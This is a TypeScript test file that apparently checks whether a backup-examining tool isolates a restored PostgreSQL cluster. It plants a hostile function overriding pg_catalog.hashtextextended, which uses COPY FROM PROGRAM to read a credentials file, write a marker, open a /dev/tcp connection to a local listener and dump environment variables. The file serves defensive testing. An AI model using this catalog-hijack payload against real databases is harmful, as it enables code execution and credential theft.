// A cluster with a function of an attacker, which runs when its rows are read: it tries to take what the caller of
// `holdfast examine` has. The same cluster without the namespaces shows that the attempt is a real one.
import { chmodSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import type { AddressInfo, Server } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { Namespaces } from '../../checks/restore-test/isolation.ts'
import type { Isolation } from '../../checks/restore-test/isolation.ts'
import { testCluster } from '../../checks/restore-test/postgres.ts'
import { stagePostgres } from '../../lab/postgres/binaries.ts'
import type { PostgresBinaries } from '../../lab/postgres/binaries.ts'
import { Cluster, initializeCluster } from '../../lab/postgres/cluster.ts'
import { findUnprivilegedUser } from '../../lab/postgres/unprivileged-user.ts'
import { makeFolder, runProcess } from '../restore-cli/command-line.ts'

const folder = makeFolder()
const at = (...parts: string[]) => join(folder, ...parts)
const secret = 'a-credential-of-the-caller'
let binaries: PostgresBinaries
let listener: Server
let connections = 0

beforeAll(async () => {
  chmodSync(folder, 0o711)
  for (const name of ['caller', 'scratch']) mkdirSync(at(name))
  chmodSync(at('caller'), 0o777)
  writeFileSync(at('caller', 'credentials'), secret)
  listener = createServer((socket) => {
    connections++
    socket.destroy()
  }).listen(0, '127.0.0.1')
  await new Promise((resolve) => listener.once('listening', resolve))
  const user = await findUnprivilegedUser()
  binaries = await stagePostgres(at('postgres'))
  await initializeCluster(binaries, at('data'), user)
  const cluster = await Cluster.start({
    binaries,
    dataDirectory: at('data'),
    user,
    settings: { fsync: 'off', io_method: 'sync' },
  })
  const client = await cluster.connect()
  const { port } = listener.address() as AddressInfo
  const script = [
    `cat ${at('caller', 'credentials')}`,
    `echo taken > ${at('caller', 'arrived')}`,
    `bash -c "exec 3<>/dev/tcp/127.0.0.1/${port}"`,
    `kill -0 ${process.pid}`,
    'env',
  ].join('; ')
  await client.query('SET allow_system_table_mods = on')
  // The query of a restore test calls hashtextextended(text, 0): this fits better than PostgreSQL's own.
  await client.query(`
    CREATE FUNCTION pg_catalog.hashtextextended(text, integer) RETURNS bigint LANGUAGE plpgsql AS $attack$
    DECLARE loot text;
    BEGIN
      CREATE TEMP TABLE loot (line text);
      EXECUTE format('COPY pg_temp.loot FROM PROGRAM %L',
        $script$(${script}) 2>&1 | tr '\\t\\\\' '  '$script$);
      SELECT string_agg(line, ' / ') INTO loot FROM pg_temp.loot;
      RAISE EXCEPTION 'loot: %', loot;
    END $attack$`)
  await client.query('CREATE TABLE booking AS SELECT 1 AS id')
  await client.end()
  await cluster.stop('fast')
})
afterAll(() => listener.close())

async function lootOf(isolation: Isolation): Promise<string> {
  connections = 0
  rmSync(at('caller', 'arrived'), { force: true })
  const { findings } = await testCluster(
    {
      dataDirectory: at('data'),
      programs: join(binaries.directory, 'bin'),
      mode: 'copy',
      scratch: at('scratch'),
      isolation,
    },
    new AbortController().signal,
  )
  return findings.find((finding) => finding.includes('loot: ')) ?? ''
}

const withoutNamespaces: Isolation = {
  assertPossible: async () => {},
  enclose: (command) => command,
}

test('a function of a restored cluster runs, and finds no file, no network, no process and no variable of the caller', async () => {
  const loot = await lootOf(new Namespaces())
  expect(loot).toContain('No such file or directory')
  expect(loot).not.toContain(secret)
  expect(loot).toMatch(/Connection refused|Network is unreachable/)
  expect(loot).toContain('No such process')
  expect(loot).not.toMatch(/AWS_|HOLDFAST_|npm_/)
  expect(existsSync(at('caller', 'arrived'))).toBe(false)
  expect(connections).toBe(0)
})

test('without the namespaces, the same function takes all of it', async () => {
  const loot = await lootOf(withoutNamespaces)
  expect(loot).toContain(secret)
  expect(loot).not.toContain('No such process')
  expect(existsSync(at('caller', 'arrived'))).toBe(true)
  expect(connections).toBeGreaterThan(0)
})

test('the command that a user runs by hand gives nothing away either', async () => {
  connections = 0
  rmSync(at('caller', 'arrived'), { force: true })
  const outcome = await runProcess(
    [
      ...['examine', at('data'), '--kind', 'postgres', '--postgres-bin', join(binaries.directory, 'bin')],
      ...['--scratch', at('scratch'), '--json'],
    ],
    { env: { HOME: at('caller'), AWS_SECRET_ACCESS_KEY: secret } },
  )
  expect(outcome.status).toBe(4)
  expect(outcome.stdout).toContain('loot: ')
  expect(outcome.stdout).not.toContain(secret)
  expect({ arrived: existsSync(at('caller', 'arrived')), connections }).toEqual({
    arrived: false,
    connections: 0,
  })
})
